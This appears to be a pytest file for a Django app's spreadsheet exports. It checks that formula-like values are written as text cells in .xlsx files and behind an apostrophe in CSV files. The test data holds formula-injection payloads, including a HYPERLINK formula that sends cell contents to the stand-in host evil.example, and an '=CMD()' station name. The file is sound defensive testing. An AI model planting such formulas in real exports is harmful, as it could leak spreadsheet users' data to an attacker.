"""No exported cell is ever a formula (csc/exports.py): a value starting with = + - @, a tab or a CR that a person
typed into the product lands in every .xlsx as a text cell and in every CSV behind an apostrophe."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from csc import exports
from tests.compliance.factories import customer
from tests.factories import StationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_like_value_is_text_in_both_formats(value):
    sheet = load_workbook(io.BytesIO(exports.xlsx_table(title="t", header=["a"], rows=[[value]]))).active
    cell = sheet["A2"]
    content = exports.csv_response(filename="x.csv", header=["a"], rows=[[value]]).content.decode("utf-8-sig")

    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # XML stores a CR as a line feed
    assert list(csv.reader(io.StringIO(content)))[1] == ["'" + value]


def test_ordinary_values_are_written_as_they_are():
    sheet = load_workbook(
        io.BytesIO(exports.xlsx_table(title="t", header=["a", "b", "c"], rows=[["王建华", 5, -3]]))
    ).active
    content = exports.csv_response(filename="x.csv", header=["a", "b"], rows=[["王建华", 5]]).content.decode(
        "utf-8-sig"
    )

    assert [c.value for c in sheet[2]] == ["王建华", 5, -3]
    assert list(csv.reader(io.StringIO(content)))[1] == ["王建华", "5"]


def test_the_customer_csv_keeps_company_and_account_number_as_text(client, supervisor):
    customer(account_number="=1+2", company=EVIL, is_corporate=True)
    client.force_login(supervisor)

    response = client.post(reverse("compliance:customer_export"), {"purpose": "季度核对"})

    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
    assert row[-2:] == ["'=1+2", "'" + EVIL]


def test_the_access_log_csv_keeps_a_purpose_as_text(client, compliance_officer, supervisor):
    from compliance.services import access_log_record

    record = customer(account_number="GR77")
    access_log_record(user=supervisor, customers=[record], channel="page", fields=["name"], unmasked=True, purpose=EVIL)
    client.force_login(compliance_officer)

    response = client.get(reverse("compliance:access_log"), {"customer": "GR77", "format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + EVIL in rows[1]


def test_the_report_xlsx_keeps_a_station_name_as_text(client, supervisor):
    StationFactory(name="=CMD()", code="evil")
    client.force_login(supervisor)

    response = client.get(reverse("reports:daily"), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=CMD()"]
    assert cells and all(cell.data_type == "s" for cell in cells)
